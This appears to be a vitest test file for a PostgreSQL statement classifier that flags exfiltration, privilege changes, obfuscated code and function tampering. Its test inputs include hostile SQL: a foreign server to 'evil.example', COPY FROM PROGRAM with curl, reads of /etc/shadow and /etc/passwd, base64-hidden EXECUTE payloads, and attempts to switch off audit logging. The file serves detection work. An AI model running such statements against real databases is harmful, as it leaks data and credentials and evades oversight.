import { beforeAll, describe, expect, it } from 'vitest';
import { loadModule } from 'libpg-query';
import { classifySql, type ClassifyOptions } from '../../src/activity/classify.js';
import { redactSecrets } from '../../src/redact.js';

const options: ClassifyOptions = { views: new Set(['public.v_orders', 'v_customers']), viewWrites: false, allowedLanguages: ['sql', 'plpgsql'], sensitiveTables: ['customers', 'billing.*'] };
const one = (sql: string, o: ClassifyOptions = options) => {
  const [c] = classifySql(sql, o);
  return { useCase: c!.useCase, command: c!.command, objects: c!.objects, notes: c!.notes, highRisk: c!.highRisk };
};

beforeAll(() => loadModule());

describe('classification with PostgreSQL’s grammar', () => {
  it.each([
    ['SELECT app.recalc(42)', 'function-execution', 'SELECT', ['app.recalc']],
    ['CALL app.nightly()', 'function-execution', 'CALL', ['app.nightly']],
    ['DO $$ BEGIN PERFORM 1; END $$', 'function-execution', 'DO', ['DO block']],
    ['CREATE OR REPLACE FUNCTION app.f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', 'function-tampering', 'CREATE OR REPLACE FUNCTION', ['app.f']],
    ['ALTER FUNCTION app.f() SECURITY DEFINER', 'function-tampering', 'ALTER FUNCTION', ['app.f']],
    ['ALTER FUNCTION app.f() OWNER TO mallory', 'function-tampering', 'ALTER FUNCTION', ['app.f']],
    ['DROP FUNCTION app.f(int)', 'function-tampering', 'DROP FUNCTION', ['app.f']],
    ['CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION app.f()', 'function-tampering', 'CREATE EVENT TRIGGER', ['e']],
    ["CREATE FUNCTION x() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$", 'obfuscated-code', 'CREATE FUNCTION', ['x']],
    ["CREATE FUNCTION y() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE convert_from(decode('U0VMRUNUIDE=', 'base64'), 'UTF8'); END $$", 'obfuscated-code', 'CREATE FUNCTION', ['y']],
    ["DO $$ BEGIN EXECUTE 'SEL' || chr(69) || 'CT 1'; END $$", 'obfuscated-code', 'DO', ['DO block']],
    ['DELETE FROM v_customers WHERE id = 1', 'view-delete', 'DELETE', ['v_customers']],
    ['DELETE FROM public.v_orders', 'view-delete', 'DELETE', ['public.v_orders']],
    ['DROP VIEW v_customers', 'view-delete', 'DROP VIEW', ['v_customers']],
    ['ALTER TABLE t ADD COLUMN c int', 'alter-table', 'ALTER TABLE', ['t']],
    ['DROP TABLE a, s.b', 'drop-table', 'DROP TABLE', ['a', 's.b']],
    ['TRUNCATE a', 'truncate', 'TRUNCATE TABLE', ['a']],
    ['truncate table only audit_log, b restart identity', 'truncate', 'TRUNCATE TABLE', ['audit_log', 'b']],
    ['GRANT SELECT ON t TO PUBLIC', 'privileged-operation', 'GRANT', ['t']],
    ['GRANT admin TO bob', 'privileged-operation', 'GRANT', ['admin']],
    ['ALTER ROLE bob BYPASSRLS', 'privileged-operation', 'ALTER ROLE', ['bob']],
    ["ALTER ROLE bob WITH PASSWORD 'x' VALID UNTIL '2030-01-01'", 'privileged-operation', 'ALTER ROLE', ['bob']],
    ['ALTER ROLE bob NOSUPERUSER', 'privileged-operation', 'ALTER ROLE', ['bob']],
    ["ALTER SYSTEM SET ssl = off", 'privileged-operation', 'ALTER SYSTEM', ['ssl']],
    ['SET SESSION AUTHORIZATION admin', 'privileged-operation', 'SET SESSION AUTHORIZATION', ['admin']],
    ['CREATE EXTENSION dblink', 'privileged-operation', 'CREATE EXTENSION', ['dblink']],
    ["CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example', dbname 'x')", 'data-exfiltration', 'CREATE FOREIGN SERVER', ['evil']],
    ["CREATE USER MAPPING FOR mallory SERVER evil OPTIONS (user 'm', password 's3cret')", 'privileged-operation', 'CREATE USER MAPPING', ['evil']],
    ['SELECT pg_terminate_backend(4242)', 'privileged-operation', 'SELECT', ['pg_terminate_backend']],
    ["COPY t FROM PROGRAM 'curl http://x'", 'privileged-operation', 'COPY FROM', ['t']],
    ["CREATE USER eve PASSWORD 'x'", 'user-created', 'CREATE USER', ['eve']],
    ['CREATE TABLE t (id int)', 'table-created', 'CREATE TABLE', ['t']],
    ['CREATE TABLE t2 AS SELECT 1', 'table-created', 'CREATE TABLE AS', ['t2']],
    ['SELECT * INTO t3 FROM t', 'table-created', 'SELECT INTO', ['t3']],
    ['DROP USER eve, mallory', 'user-dropped', 'DROP ROLE', ['eve', 'mallory']],
    ["COPY customers TO '/tmp/c.csv'", 'data-exfiltration', 'COPY TO', ['customers']],
    ['COPY (SELECT * FROM customers) TO STDOUT', 'data-exfiltration', 'COPY TO', ['(query)']],
    ["SELECT lo_export(16400, '/tmp/blob')", 'data-exfiltration', 'SELECT', ['lo_export']],
    ["SELECT pg_read_binary_file('/etc/shadow')", 'data-exfiltration', 'SELECT', ['pg_read_binary_file']],
    ["SELECT lo_from_bytea(0, convert_to(string_agg(email, ','), 'UTF8')) FROM customers WHERE id > 0", 'data-exfiltration', 'SELECT', ['lo_from_bytea']],
    ['SELECT * FROM customers', 'data-exfiltration', 'SELECT', ['customers']],
    ['SELECT * FROM billing.cards', 'data-exfiltration', 'SELECT', ['billing.cards']],
    // an aggregate that returns the values themselves is still a bulk read
    ["SELECT string_agg(email, ',') FROM customers", 'data-exfiltration', 'SELECT', ['customers']],
    ['SELECT email, count(*) FROM customers GROUP BY email', 'data-exfiltration', 'SELECT', ['customers']],
    // set_config over pg_settings changes what the WHERE clause names: here a logging setting
    ["SELECT set_config(name, 'none', false) FROM pg_settings WHERE name = 'log_statement'", 'privileged-operation', 'SELECT', ['set_config']],
    ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name IN ('search_path', 'pgaudit.log')", 'privileged-operation', 'SELECT', ['set_config']],
    ["SELECT set_config(name, 'x', false) FROM pg_settings", 'privileged-operation', 'SELECT', ['set_config']],
  ])('%s → %s', (sql, useCase, command, objects) => {
    expect(one(sql)).toMatchObject({ useCase, command, objects });
  });

  it('leaves ordinary statements unclassified, built-in calls included', () => {
    for (const sql of [
      'SELECT count(*), now() FROM t',
      'SELECT * FROM customers WHERE id = 1',
      'UPDATE t SET a = 1',
      'INSERT INTO t VALUES (lower($1))',
      'RESET ROLE',
      "SELECT pg_catalog.set_config('search_path', '', false)",
      // pg_dump's own session setup (PostgreSQL 17+ and the 2024-08 minor releases)
      "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name IN ('restrict_nonsystem_relation_kind', 'restrict_nonsystem_relation_kind')",
      // an application storing a blob from its parameter
      'SELECT lo_from_bytea(0, $1)',
      // a figure about a sensitive table is not the table
      'SELECT count(*) FROM customers',
      'SELECT count(*), avg(amount) FROM billing.cards',
    ]) {
      expect(one(sql).useCase).toBeNull();
    }
  });

  it('marks the risky ALTER TABLE sub-commands and names them', () => {
    expect(one('ALTER TABLE t DISABLE ROW LEVEL SECURITY, DISABLE TRIGGER ALL, OWNER TO bob')).toMatchObject({ highRisk: true, notes: ['DISABLE ROW LEVEL SECURITY', 'DISABLE TRIGGER ALL', 'OWNER TO'] });
    expect(one('ALTER TABLE t ADD COLUMN c int').highRisk).toBe(false);
  });

  it('decodes the payload of obfuscated code, classifies what it would run, and masks an encoded password', () => {
    const encoded = (sql: string) => Buffer.from(sql).toString('base64');
    const wrapped = (sql: string) => `DO $$ BEGIN EXECUTE convert_from(decode('${encoded(sql)}', 'base64'), 'UTF8'); END $$`;
    expect(one(wrapped('DROP TABLE payroll'))).toMatchObject({ useCase: 'obfuscated-code', notes: expect.arrayContaining(['decodes to: DROP TABLE payroll', 'also drop-table', 'in the decoded text: DROP TABLE']) });
    const [hidden] = classifySql(wrapped("ALTER ROLE app PASSWORD 'Hunter2'"), options);
    expect(hidden!.notes).toContain("decodes to: ALTER ROLE app PASSWORD 'Hunter2'");
    // the statement shows no encoded secret; the note is redacted where every note is (the monitor's emit)
    expect(hidden!.statement).toBe("DO $$ BEGIN EXECUTE convert_from(decode('***', 'base64'), 'UTF8'); END $$");
    // hex too, and a payload too large to open stays encoded
    expect(one(`DO $$ BEGIN EXECUTE convert_from(decode('${Buffer.from('TRUNCATE t').toString('hex')}', 'hex'), 'UTF8'); END $$`).notes).toContain('decodes to: TRUNCATE t');
    expect(one(wrapped(`SELECT '${'x'.repeat(70_000)}'`)).notes.some((n) => n.startsWith('decodes to:'))).toBe(false);
  });

  it('says what a GRANT or REVOKE gives to whom', () => {
    expect(one('GRANT SELECT, UPDATE ON t, s.u TO bob, PUBLIC').notes).toEqual(['GRANT SELECT, UPDATE ON t, s.u TO bob, PUBLIC']);
    expect(one('REVOKE ALL ON SCHEMA app FROM mallory').notes).toEqual(['REVOKE ALL ON app FROM mallory']);
    expect(one('GRANT pg_read_server_files TO CURRENT_USER').notes).toEqual(['GRANT pg_read_server_files TO CURRENT_USER']);
  });

  it('names each role attribute change, never the password, and marks only a granted power high-risk', () => {
    expect(one("ALTER ROLE bob WITH SUPERUSER NOCREATEDB PASSWORD 'Hunter2' VALID UNTIL '2030-01-01' CONNECTION LIMIT 3")).toMatchObject({ notes: ['SUPERUSER', 'NOCREATEDB', 'PASSWORD changed', 'VALID UNTIL 2030-01-01', 'CONNECTION LIMIT 3'], highRisk: true });
    expect(one('ALTER ROLE bob NOSUPERUSER')).toMatchObject({ notes: ['NOSUPERUSER'], highRisk: false });
  });

  it('marks UNLOGGED and TEMPORARY tables, and a LOGIN role', () => {
    expect(one('CREATE UNLOGGED TABLE u (id int)').notes).toEqual(['UNLOGGED']);
    expect(one('CREATE TEMP TABLE u (id int)').notes).toEqual(['TEMPORARY']);
    expect(one('CREATE ROLE r LOGIN').notes).toEqual(['LOGIN']);
    expect(one('CREATE ROLE g').notes).toEqual(['NOLOGIN']);
  });

  it('gives one entry per sub-statement, with its own text', () => {
    const parts = classifySql("DROP TABLE a; CREATE ROLE b LOGIN PASSWORD 'pw'; SELECT 1", options);
    expect(parts.map((p) => [p.useCase, p.statement])).toEqual([
      ['drop-table', 'DROP TABLE a'],
      ['user-created', "CREATE ROLE b LOGIN PASSWORD 'pw'"],
      [null, 'SELECT 1'],
    ]);
  });

  it('reports text the grammar cannot read as unparsed, with the parser’s message', () => {
    expect(one('SELEC * FROM t')).toMatchObject({ useCase: 'unparsed', notes: ['syntax error at or near "SELEC"'] });
    expect(one("DROP TABLE 'unterminated")).toMatchObject({ useCase: 'unparsed' });
  });

  it('reads a whole large table (the catalog says so) as exfiltration a person may do, unless bounded or also worse', () => {
    const large = { ...options, sensitiveTables: [], largeTables: new Map([['public.orders', 5e6], ['orders', 5e6]]) };
    expect(classifySql('SELECT * FROM orders', large)[0]).toMatchObject({ useCase: 'data-exfiltration', objects: ['orders'], notes: ['unbounded read of large table orders (about 5000000 rows)'], wholeLargeTable: true });
    expect(classifySql('SELECT * FROM public.orders JOIN small s USING (id)', large)[0]!.wholeLargeTable).toBe(true);
    for (const bounded of ['SELECT * FROM orders LIMIT 10', 'SELECT * FROM orders WHERE id = 1', 'SELECT count(*) FROM orders', 'SELECT * FROM small']) expect(one(bounded, large).useCase).toBeNull();
    // reading a server file as well is exfiltration whoever runs it
    const [both] = classifySql("SELECT *, pg_read_file('/etc/passwd') FROM orders", large);
    expect(both!.useCase).toBe('data-exfiltration');
    expect(both!.wholeLargeTable).toBeUndefined();
  });

  it("says where a foreign server points, and never shows a user mapping's password", () => {
    expect(one("CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example', dbname 'x')").notes).toEqual(['foreign server evil (postgres_fdw) to host evil.example']);
    const mapping = classifySql("CREATE USER MAPPING FOR mallory SERVER evil OPTIONS (user 'm', password 's3cret')", options)[0]!;
    expect(mapping.notes).toEqual(['user mapping for mallory on server evil: stored credentials']);
    expect(redactSecrets(mapping.statement)).not.toContain('s3cret');
  });

  it('treats UPDATE through a view as view-delete only when configured', () => {
    expect(one('UPDATE v_customers SET email = null').useCase).toBeNull();
    expect(one('UPDATE v_customers SET email = null', { ...options, viewWrites: true }).useCase).toBe('view-delete');
  });

  it('allows languages that are allow-listed', () => {
    expect(one('CREATE FUNCTION x() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$', { ...options, allowedLanguages: ['sql', 'plpgsql', 'plpython3u'] }).useCase).toBeNull();
  });
});
